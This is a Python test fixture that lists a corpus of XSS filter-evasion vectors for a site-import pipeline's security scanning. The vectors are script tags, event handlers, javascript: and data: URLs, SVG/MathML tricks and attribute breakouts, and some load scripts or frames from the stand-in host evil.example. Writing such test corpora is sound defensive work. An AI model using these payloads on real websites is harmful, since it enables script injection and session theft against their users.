"""The XSS corpus: hostile markup in the style of OWASP's filter-evasion cheat sheet, written for
this project. Each vector is embedded in a scraped page (tests/security/pages.py), imported through
a site profile and through the generic (trafilatura) path, built, and scanned.

A vector is either body markup (``body``) or a page-level value (title, first paragraph — which
becomes the description —, subtitle or tag) that tries to break out of an attribute.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Vector:
    name: str
    body: str = ""
    title: str | None = None  # text of the page's title (HTML-escaped into the page)
    first_paragraph: str | None = None  # text of the first paragraph: it becomes the description
    subtitle: str | None = None
    tag: str | None = None


_BODY = {
    # <script> in every case and encoding
    "script": "<script>alert(1)</script>",
    "script-upper": "<SCRIPT>alert(2)</SCRIPT>",
    "script-mixed-case": "<ScRiPt>alert(3)</sCrIpT>",
    "script-src": '<script src="http://evil.example/x.js"></script>',
    "script-slash-attr": '<script/xss src="http://evil.example/x.js"></script>',
    "script-form-feed": "<script\x0c>alert(6)</script>",
    "script-double-open": "<<script>alert(7);//<</script>",
    "script-unclosed": "<p>before</p><script>alert(8)//",
    "script-split": "<scr<script>ipt>alert(9)</scr</script>ipt>",
    "script-escaped-text": "<p>&lt;script&gt;alert(10)&lt;/script&gt;</p>",
    "script-double-escaped": "<p>&amp;lt;script&amp;gt;alert(11)&amp;lt;/script&amp;gt;</p>",
    "script-decimal-refs": "<p>&#60;script&#62;alert(12)&#60;/script&#62;</p>",
    "script-hex-refs": "<p>&#x3C;script&#x3E;alert(13)&#x3C;/script&#x3E;</p>",
    "script-percent-encoded": "<p>%3Cscript%3Ealert(14)%3C/script%3E</p>",
    "script-nested-escaped": "<p>&lt;scr&lt;script&gt;ipt&gt;alert(15)</p>",
    "noscript-breakout": '<noscript><p title="</noscript><img src=x onerror=alert(16)>"></noscript>',
    "template-script": "<template><script>alert(17)</script></template>",
    "comment-script": "<!--<script>alert(18)</script>--><p>after a comment</p>",
    "cdata-script": "<![CDATA[<script>alert(19)</script>]]>",
    "xml-pi-script": '<?xml version="1.0"?><script>alert(20)</script>',
    # event handlers
    "img-onerror": "<img src=x onerror=alert(21)>",
    "img-onerror-upper": '<IMG SRC=x ONERROR="alert(22)">',
    "img-onerror-refs": '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;(23)">',
    "body-onload": "<body onload=alert(24)><p>body text</p>",
    "p-onmouseover": '<p onmouseover="alert(25)">hover text</p>',
    "div-onclick": "<div onclick=alert(26)>click text</div>",
    "details-ontoggle": "<details open ontoggle=alert(27)><summary>s</summary>d</details>",
    "input-autofocus": "<input autofocus onfocus=alert(28)>",
    "select-autofocus": "<select autofocus onfocus=alert(29)><option>o</option></select>",
    "source-onerror": "<video><source onerror=alert(30)></video>",
    "audio-onerror": "<audio src=x onerror=alert(31)></audio>",
    "marquee-onstart": "<marquee onstart=alert(32)>moving</marquee>",
    "a-onmouseover": '<a href="https://example.org/" onmouseover="alert(33)">link</a>',
    "slash-attribute": "<b/onmouseover=alert(34)>bold</b>",
    "p-slash-onclick": '<p/onclick="alert(35)">paragraph</p>',
    "strong-onpointerenter": "<strong onpointerenter=alert(36)>strong</strong>",
    "td-onclick": '<table><tr><td onclick="alert(37)">cell</td></tr></table>',
    "onanimationstart": '<div style="animation:x 1s" onanimationstart=alert(38)>x</div>',
    "backtick-attribute": "<img src=`x`onerror=alert(39)>",
    "quote-confusion": '<img """><script>alert(40)</script>">',
    # javascript:, vbscript: and data: URLs
    "a-javascript": '<a href="javascript:alert(41)">j</a>',
    "a-javascript-case": '<a href="JaVaScRiPt:alert(42)">j</a>',
    "a-javascript-tab": '<a href="jav&#x09;ascript:alert(43)">j</a>',
    "a-javascript-newline": '<a href="jav&#x0A;ascript:alert(44)">j</a>',
    "a-javascript-leading": '<a href=" &#14; javascript:alert(45)">j</a>',
    "a-javascript-decimal": (
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(46)">j</a>'
    ),
    "a-javascript-hex": (
        '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(47)">j</a>'
    ),
    "a-javascript-colon-entity": '<a href="javascript&colon;alert(48)">j</a>',
    "a-vbscript": '<a href="vbscript:msgbox(49)">v</a>',
    "a-data-base64": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg1MCk8L3NjcmlwdD4=">d</a>',
    "a-data-html": '<a href="data:text/html,&lt;script&gt;alert(51)&lt;/script&gt;">d</a>',
    "a-null-byte": '<a href="java&#0;script:alert(52)">n</a>',
    "form-action": '<form action="javascript:alert(53)"><button>go</button></form>',
    "button-formaction": '<button formaction="javascript:alert(54)">b</button>',
    "iframe-javascript": '<iframe src="javascript:alert(55)"></iframe>',
    "object-javascript": '<object data="javascript:alert(56)"></object>',
    "embed-javascript": '<embed src="javascript:alert(57)">',
    "markdown-link-in-href": '<a href="[x](javascript:alert(58))">m</a>',
    "markdown-link-text": "<p>[click](javascript:alert(59))</p>",
    "markdown-reference": "<p>[click][r]</p><p>[r]: javascript:alert(60)</p>",
    "markdown-autolink-js": "<p>&lt;javascript:alert(61)&gt;</p>",
    "markdown-image-js": "<p>![x](javascript:alert(62))</p>",
    "href-quote-breakout": '<a href="https://example.org/&quot;onmouseover=&quot;alert(63)">q</a>',
    "markdown-link-title-breakout": '<p>[t](https://example.org/ "x\\" onmouseover=\\"alert(64)")</p>',
    # svg and math
    "svg-onload": "<svg onload=alert(65)>",
    "svg-script": "<svg><script>alert(66)</script></svg>",
    "svg-xlink": '<svg><a xlink:href="javascript:alert(67)"><text>t</text></a></svg>',
    "math-mglyph": "<math><mtext><table><mglyph><style><img src=x onerror=alert(68)>",
    "svg-animate": "<svg><animate onbegin=alert(69) attributeName=x dur=1s>",
    "math-href": '<math href="javascript:alert(70)">m</math>',
    # frames, objects, base, meta refresh
    "iframe-srcdoc": '<iframe srcdoc="&lt;script&gt;alert(71)&lt;/script&gt;"></iframe>',
    "iframe-src": '<iframe src="http://evil.example/"></iframe>',
    "object-data": '<object data="http://evil.example/x.swf"></object>',
    "embed-src": '<embed src="http://evil.example/x.swf">',
    "base-href": '<base href="javascript:alert(75)//">',
    "meta-refresh-js": '<meta http-equiv="refresh" content="0;url=javascript:alert(76)">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    "link-import": '<link rel="import" href="http://evil.example/x.html">',
    "frameset-onload": "<frameset onload=alert(79)>",
    "applet": '<applet code="x"></applet>',
    # style
    "style-url-js": '<div style="background:url(javascript:alert(81))">s</div>',
    "style-expression": '<div style="width: expression(alert(82))">s</div>',
    "style-import": "<style>@import 'http://evil.example/x.css';</style>",
    "style-behavior": '<p style="behavior: url(x.htc)">b</p>',
    "style-tag-url": '<style>*{background:url("javascript:alert(85)")}</style>',
    # backtick fences and code
    "pre-backtick-fence": "<pre>```\n&lt;script&gt;alert(86)&lt;/script&gt;\n```</pre>",
    "pre-fence-iframe-srcdoc": (
        '<pre>```\n&lt;iframe srcdoc="&lt;script&gt;alert(87)&lt;/script&gt;"&gt;&lt;/iframe&gt;\n```</pre>'
    ),
    "pre-tilde-fence": "<pre>~~~\n&lt;img src=x onerror=alert(88)&gt;\n~~~</pre>",
    "pre-long-fences": "<pre>````\n```\n&lt;script&gt;alert(89)&lt;/script&gt;</pre>",
    "pre-code-fence": "<pre><code>```\n&lt;svg onload=alert(90)&gt;</code></pre>",
    "code-line-start-script": "<p><code>a\n&lt;script&gt;alert(91)&lt;/script&gt;</code></p>",
    "code-line-start-details": "<p><code>x\n&lt;details open ontoggle=alert(92)&gt;</code></p>",
    "code-line-start-div": "<p><code>x\n&lt;div onmouseover=alert(93)&gt;hover&lt;/div&gt;</code></p>",
    "text-fence-then-pre": "<p>text ``` more</p><pre>```\n&lt;b onclick=alert(94)&gt;</pre>",
    "pre-in-list": "<ul><li>item<pre>```\n&lt;script&gt;alert(95)&lt;/script&gt;</pre></li></ul>",
    "pre-in-quote": "<blockquote><pre>```\n&lt;script&gt;alert(96)&lt;/script&gt;</pre></blockquote>",
    "pre-in-cell": "<table><tr><td><pre>```\n&lt;script&gt;alert(97)&lt;/script&gt;</pre></td></tr></table>",
    "code-span-opens-fence": (
        "<p><code>{`` ` x</code> } &lt;i&gt;</p><pre>```\n&lt;script&gt;alert(98)&lt;/script&gt;</pre>"
    ),
    "pre-carriage-return": "<ul><li>x<pre>a\r```\r&lt;script&gt;alert(99)&lt;/script&gt;</pre></li></ul>",
    # syntax of the site's Markdown extensions, written as text
    "details-syntax": '<p>??? note "x"</p><p>&lt;script&gt;alert(100)&lt;/script&gt;</p>',
    "admonition-syntax": "<p>!!! danger</p><p>&lt;img src=x onerror=alert(101)&gt;</p>",
    "table-syntax": "<p>|a|b|<br>|---|---|<br>|&lt;script&gt;alert(102)&lt;/script&gt;|x|</p>",
    "tilde-fence-syntax": "<p>~~~<br>&lt;script&gt;alert(103)&lt;/script&gt;<br>~~~</p>",
    "setext-syntax": "<p>Title<br>===</p><p>Other<br>---</p>",
    "reference-definition": "<p>[x]: javascript:alert(105)</p><p>[x]</p>",
    "autolink-syntax": "<p>&lt;http://evil.example/&gt;</p>",
    "markdown-in-html-syntax": '<p>&lt;div markdown="1"&gt;*x*&lt;/div&gt;</p>',
    "toc-marker": "<p>[TOC]</p>",
    "indented-code-syntax": "<p>x<br>    &lt;script&gt;alert(109)&lt;/script&gt;</p>",
    "backslash-before-tag": "<p>\\&lt;script&gt;alert(110)\\&lt;/script&gt;</p>",
    "backticks-around-tag": "<p>`&lt;script&gt;alert(111)&lt;/script&gt;`</p>",
    "line-separator": "<p>a\u2028&lt;script&gt;alert(112)&lt;/script&gt;</p>",
    "placeholder-injection": "<p>x\x02wzxhzdk:0\x03 y</p>",
    "attr-list-syntax": '<p>{: onclick="alert(114)" }</p>',
    "html-block-at-line-start": "<p>x<br>&lt;div onclick=alert(115)&gt;y&lt;/div&gt;</p>",
}

_PAGE_LEVEL = [
    Vector("title-quote-handler", title='Speech "x" onmouseover="alert(201)'),
    Vector("title-single-quote", title="Title' onfocus='alert(202)"),
    Vector("title-entity-quote", title="a&quot; autofocus onfocus=&quot;alert(203)"),
    Vector("title-closes-title", title="</title><script>alert(204)</script>"),
    Vector(
        "description-refresh-breakout",
        first_paragraph='0;url=http://evil.example/" http-equiv="refresh" x="',
    ),
    Vector("description-handler", first_paragraph='" onload="alert(206)" x="'),
    Vector("description-closes-tag", first_paragraph="'\"><script>alert(207)</script>"),
    Vector("subtitle-breakout", subtitle='" onmouseover="alert(208)'),
    Vector("tag-breakout", tag='"><script>alert(209)</script>'),
]

VECTORS: tuple[Vector, ...] = (
    *(Vector(name, body=html) for name, html in _BODY.items()),
    *_PAGE_LEVEL,
)
